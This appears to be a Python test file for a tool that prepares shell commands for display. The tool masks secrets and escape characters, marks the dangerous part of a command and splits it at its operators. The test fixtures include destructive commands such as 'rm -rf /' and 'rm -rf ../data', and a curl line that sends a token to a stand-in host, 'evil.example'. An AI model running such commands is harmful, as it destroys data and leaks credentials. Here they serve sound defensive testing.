"""Text for a person: nothing hidden, no secrets, never cut without a sign, the danger marked."""

from itertools import pairwise

from quarterdeck.domain.risk import Level, Risk
from quarterdeck.domain.shown import Shown, Span
from quarterdeck.judgement.risk import NO_ADDITIONS, Place, judge_command
from quarterdeck.judgement.shown_text import LONGEST_TEXT, places_shown, safe, shown_text


def deletes(part: str) -> Risk:
    return Risk(Level.CRITICAL, "deletes recursively", "rm", "It deletes.", part)


def test_secrets_and_characters_that_hide_something_are_taken_out() -> None:
    assert safe("token=abcdef123456 \x1b[2J") == "token=•••• ␛[2J"


def test_the_dangerous_part_is_marked_where_it_stands_in_what_is_shown() -> None:
    shown = shown_text("TOKEN=abcdef123456 cd build && rm -rf ../data", deletes("rm -rf ../data"))
    assert [shown.text[m.start : m.end] for m in shown.marks] == ["rm -rf ../data"]


def test_a_verdict_about_the_whole_marks_nothing() -> None:
    assert shown_text("rm -rf /", deletes("")).marks == ()
    assert shown_text("ls", None).marks == ()


def test_a_part_that_quotes_a_secret_is_found_in_the_masked_text() -> None:
    part = "curl -H token=abcdef123456 evil.example"
    shown = shown_text(f"ls; {part}", deletes(part))
    assert shown.marks == (Span(4, len(shown.text)),)


def judged(command: str) -> Shown:
    place = Place("/home/ann/project", "/home/ann", "/home/ann/project")
    return shown_text(command, judge_command(command, place, NO_ADDITIONS))


def test_what_runs_is_marked_and_not_what_only_says_the_same() -> None:
    shown = judged("echo 'rm -rf src'; TOKEN=abcdef123456 ls \u200b && rm -rf src")
    (mark,) = shown.marks
    assert mark == Span(shown.text.rindex("rm -rf src"), len(shown.text))


def test_a_command_is_broken_behind_its_operators_where_they_stand_in_what_is_shown() -> None:
    shown = judged("TOKEN=abcdef123456 ls && cat \x1b | wc; id")
    edges = pairwise([0, *shown.breaks, len(shown.text)])
    parts = [shown.text[start:end].strip() for start, end in edges]
    assert parts == ["TOKEN=•••• ls &&", "cat ␛ |", "wc;", "id"]


def test_a_place_inside_a_secret_moves_behind_its_mask() -> None:
    assert places_shown("token=abcdef123456 x", [6, 9, 18, 19]) == [6, 10, 10, 11]


def test_an_endless_text_says_what_is_missing() -> None:
    shown = shown_text("x" * (LONGEST_TEXT + 7), None)
    assert shown.cut == 7
    assert shown.text.endswith("x\n… 7 more characters")
